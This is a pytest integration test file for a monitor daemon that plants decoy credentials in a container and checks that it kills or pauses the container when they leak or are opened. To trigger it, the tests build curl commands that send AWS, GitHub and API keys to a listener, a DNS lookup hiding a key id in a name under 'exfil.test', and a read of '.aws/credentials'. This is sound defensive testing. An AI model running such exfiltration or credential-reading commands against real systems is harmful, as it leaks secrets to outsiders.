"""Canaries against the real monitor daemon (issue 17): decoy credentials planted in a watched
container the way the session hook does (sessions/canary_hook.plant), then used the way an
agent would. A value of each kind sent in clear over HTTP, and a value in a DNS name, is
CRITICAL `canary.network` (the container is killed); an AKIA-shaped look-alike that is not
the canary raises nothing. Opening a canary is HIGH `canary.open` (the file watcher's rule).

Network targets: only listeners on the test bridge's own address (10.199.0.1).
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterator
from typing import Any

import pytest

from coi_tui.monitor.canary import CANARY_KINDS, Canary, make_canary
from coi_tui.sessions.canary_hook import plant
from tests.integration.test_monitor import (
    DNS,
    GATEWAY,
    Listener,
    Monitor,
    b64,
    run_file,
    running_monitor,
)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")
HIGH_OR_WORSE = ("high", "critical")


@pytest.fixture(scope="module")
def mon(
    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Monitor]:
    with running_monitor(f"{run_prefix}k", incus, image, tmp_path_factory) as monitor:
        yield monitor


def planted(mon: Monitor) -> tuple[str, dict[str, Canary]]:
    """A watched container with every kind of canary, registered in the monitor's home."""
    name = mon.container()
    made = plant(mon.incus, name, CANARY_KINDS, home=mon.home)
    assert sorted(c.kind for c in made) == sorted(CANARY_KINDS)
    return name, {c.kind: c for c in made}


def upload(port: int, body: str, curl_args: str = "") -> str:
    """The body written to a plain file (no secret path on any command line), then sent by
    curl: what an agent does with a value it read earlier."""
    return (
        f"echo {b64(body)} | base64 -d > /tmp/report.txt; "
        f"curl -s -m 5 {curl_args} --data-binary @/tmp/report.txt "
        f"http://{GATEWAY}:{port}/collect"
    )


def sends(kind: str, canary: Canary, port: int) -> str:
    if kind == "aws":  # a form field
        return upload(port, f"id={canary.values[0]}&region=us-east-1")
    if kind == "gh":  # an API token in a header
        token = canary.values[0]
        return upload(port, "{}", f"-H 'Authorization: token {token}'")
    if kind == "env":  # in the query string
        return f"curl -s -m 5 'http://{GATEWAY}:{port}/q?key=sk-proj-{canary.values[0]}'"
    return upload(port, canary.content)  # the whole key file (about 400 bytes)


@pytest.mark.parametrize("kind", CANARY_KINDS)
def test_canary_value_sent_over_http_is_killed(mon: Monitor, kind: str) -> None:
    name, made = planted(mon)
    sink = Listener(sink=True)
    try:
        mon.trigger(name, sends(kind, made[kind], sink.port))
        record = mon.threat(name, {"canary.network"})
        assert record["level"] == "critical" and record["action"] == "killed"
        evidence = record["evidence"]["canary"]
        assert evidence["kind"] == kind and evidence["where"] == "tcp"
        assert evidence["remote"] == f"{GATEWAY}:{sink.port}"
        assert evidence["path"] == made[kind].path
        mon.assert_status(name, "Gone")
    finally:
        sink.close()


def test_canary_value_in_a_dns_name_is_killed(mon: Monitor) -> None:
    name, made = planted(mon)
    key_id = made["aws"].values[0].lower()
    # split across two labels and lowercased, as a resolver may pass it on
    query = DNS.format(gw=GATEWAY, count=0) + f"q('{key_id[:10]}.{key_id[10:]}.cdn.exfil.test')\n"
    mon.trigger(name, run_file("/tmp/lookup.py", query, "python3"))
    record = mon.threat(name, {"canary.network"})
    assert record["level"] == "critical" and record["action"] == "killed"
    evidence = record["evidence"]["canary"]
    assert evidence["kind"] == "aws" and evidence["where"] == "dns"
    assert evidence["remote"] == f"{GATEWAY}:53"
    mon.assert_status(name, "Gone")


def test_look_alikes_are_not_canaries(mon: Monitor) -> None:
    """Credentials of every kind shaped like the canaries but not this session's (a test
    fixture, a docs example, another project's key) go out and raise nothing; the real AWS
    key id sent after them, to another port, is caught, which shows their packets were
    judged (they are handled in order)."""
    name, made = planted(mon)
    decoy_sink = Listener()  # answers at once (not HTTP): curl is done as soon as it has sent
    real_sink = Listener(sink=True)
    try:
        look_alikes = "\n".join(make_canary(kind).content for kind in CANARY_KINDS)
        mon.sh(name, upload(decoy_sink.port, look_alikes) + " || true")
        mon.trigger(name, upload(real_sink.port, f"id={made['aws'].values[0]}"))
        record = mon.threat(name, {"canary.network"})
        assert record["evidence"]["canary"]["remote"] == f"{GATEWAY}:{real_sink.port}", record
        earlier = [t for t in mon.events.threats(name) if t["timestamp"] < record["timestamp"]]
        assert not [t for t in earlier if t["level"] in HIGH_OR_WORSE], earlier
    finally:
        decoy_sink.close()
        real_sink.close()


def test_opening_a_canary_is_paused_listing_its_folder_is_not(mon: Monitor) -> None:
    """canary.open is the file watcher's rule (monitor/filewatch.py, fed canary_paths())."""
    name, _made = planted(mon)
    # what an agent does around them: list the folders, read its own ssh config
    mon.sh(
        name,
        "setpriv --reuid=1000 --regid=1000 --init-groups -- sh -c "
        '\'printf "Host *\\n  ServerAliveInterval 30\\n" > ~code/.ssh/config; '
        "cat ~code/.ssh/config > /dev/null; stat ~code/.env > /dev/null'; "
        "ls -la ~code/.aws ~code/.ssh ~code/.config/gh > /dev/null",
    )
    # the listing's own WARNING (a command-line rule) comes after the daemon handled the
    # file events of the planting, so the new canaries are marked by then
    listed = mon.threat(name, {"cred.cloud-file"})
    assert listed["level"] == "warning"
    mon.trigger(name, "cat /home/code/.aws/credentials > /dev/null; sleep 30")
    record = mon.threat(name, {"canary.open"})
    assert record["level"] == "high" and record["action"] == "paused"
    earlier = [t for t in mon.events.threats(name) if t["timestamp"] < record["timestamp"]]
    assert not [t for t in earlier if t["level"] in HIGH_OR_WORSE], earlier
    mon.assert_status(name, "Frozen")


def test_a_session_plants_its_canaries_and_forgets_them(coi: Any, workspace: Any) -> None:
    """The real path: `coi run` with [monitoring] canaries on plants the chosen kinds before
    the command runs (code's, 0600 in 0700 folders) and drops the registry with the
    container."""
    (coi.home / "config.toml").write_text(
        '[monitoring]\ncanaries = true\ncanary_kinds = ["aws", "gh"]\n'
    )
    script = (
        "cd ~ && stat -c '%n %U %a' .aws .aws/credentials .config/gh .config/gh/hosts.yml; "
        "cat .aws/credentials; test ! -e .ssh/id_ed25519_deploy && echo no-ssh-canary"
    )
    ran = coi.ok("run", "-w", str(workspace), "--", "sh", "-c", script)
    shown = ran.stdout
    assert "canaries is on but enabled is off" in ran.stdout + ran.stderr  # no monitor here
    for line in (
        ".aws code 700",
        ".aws/credentials code 600",
        ".config/gh code 700",
        ".config/gh/hosts.yml code 600",
        "no-ssh-canary",
    ):
        assert line in shown, shown
    assert re.search(r"aws_access_key_id = AKIA[A-Z2-7]{16}\n", shown), shown
    assert not list((coi.home / "canaries").glob("*.json")), "registry left behind"
